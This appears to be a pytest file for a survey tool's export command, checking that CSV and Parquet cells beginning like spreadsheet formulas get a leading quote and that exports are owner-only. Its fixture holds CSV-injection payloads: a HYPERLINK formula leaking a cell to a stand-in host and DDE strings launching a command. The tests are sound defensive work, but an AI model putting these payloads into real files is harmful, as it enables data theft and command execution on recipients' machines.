"""A tester's answer that a spreadsheet would run (issue 25 item 3).

``=HYPERLINK("http://x.example/?leak="&A1,"Click")`` typed into a survey was written as it
was to the responses table of ``playtest export --format csv``: the designer's
spreadsheet then ran it. Now every text cell of the CSV and Parquet tables that starts
like a formula (``=``, ``+``, ``-``, ``@``, tab, carriage return, NUL: OWASP's rule) gets a
leading ``'``, and the CSV quotes every cell; the JSON Lines export keeps the answer
exact. Files are read back as a spreadsheet would get them: the CSV's bytes, Parquet by
pyarrow.
"""

from __future__ import annotations

import csv
import json
import stat
from collections.abc import Iterator
from pathlib import Path

import pandas as pd
import pytest
from faults_support import make_tester

from playtest.cli import main
from playtest.storage import repository as repo
from playtest.storage.db import dispose_engines, make_engine, upgrade

HOSTILE = {
    "open.formula": '=HYPERLINK("http://x.example/?leak="&A1,"Click")',
    "open.plus": "+1+cmd|' /C calc'!A0",
    "open.minus": "-2+3",
    "open.at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "open.tab": "\t=1+1",
    "open.cr": "\r=1+1",
}
PLAIN = {"open.plain": "I liked the dice", "open.number": 7}


@pytest.fixture
def exported(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """The current folder, with the study ``s1`` of one tester who typed :data:`HOSTILE`."""
    url = f"sqlite:///{tmp_path / 'playtest.sqlite'}"
    engine = make_engine(url)
    upgrade(engine)
    tester, _logger, _session = make_tester(engine, "s1")
    repo.save_responses(engine, tester.code, "vapoosh_post_short", "1", None, "post", "open",
                        {**HOSTILE, **PLAIN}, 3.0)
    engine.dispose()
    folder = tmp_path / "work"
    folder.mkdir()
    monkeypatch.chdir(folder)
    monkeypatch.setenv("DATABASE_URL", url)
    monkeypatch.setenv("PLAYTEST_CACHE_DIR", str(tmp_path / "cache"))
    yield folder
    dispose_engines()


def _answers(rows: list[dict[str, object]]) -> dict[str, object]:
    return {str(row["item"]): row["value"] for row in rows}


def test_csv_cells_that_start_like_formulas_get_a_quote_and_every_cell_is_quoted(
    exported: Path,
) -> None:
    assert main(["export", "--study", "s1", "--out", "s.csv"]) == 0
    text = (exported / "s.responses.csv").read_text(encoding="utf-8")
    with (exported / "s.responses.csv").open(newline="", encoding="utf-8") as handle:
        answers = _answers(list(csv.DictReader(handle)))
    for item, value in HOSTILE.items():
        assert answers[item] == "'" + value, item
    assert answers["open.plain"] == "I liked the dice" and answers["open.number"] == "7"
    # Quoted everywhere: read as "unquoted cells are numbers", every cell is text.
    for table in exported.glob("s.*.csv"):
        with table.open(newline="", encoding="utf-8") as handle:
            cells = [cell for row in csv.reader(handle, quoting=csv.QUOTE_NONNUMERIC)
                     for cell in row]
        assert all(isinstance(cell, str) for cell in cells), table.name
        assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert '"=HYPERLINK' not in text and "\"'=HYPERLINK" in text


def test_parquet_text_cells_get_the_quote_too(exported: Path) -> None:
    assert main(["export", "--study", "s1", "--out", "s.parquet"]) == 0
    responses = pd.read_parquet(exported / "s.responses.parquet")
    answers = _answers(responses.to_dict("records"))
    for item, value in HOSTILE.items():
        assert answers[item] == "'" + value, item
    assert answers["open.plain"] == "I liked the dice"


def test_json_lines_keep_the_answer_exact_and_every_export_is_the_owners_only(
    exported: Path,
) -> None:
    assert main(["export", "--study", "s1", "--out", "s.jsonl"]) == 0
    records = [json.loads(line) for line in (exported / "s.jsonl").read_text().splitlines()]
    answers = _answers([r for r in records if r["record"] == "response"])
    assert {item: answers[item] for item in HOSTILE} == HOSTILE
    assert main(["export", "--study", "s1", "--out", "t.csv"]) == 0
    for path in exported.iterdir():
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path.name
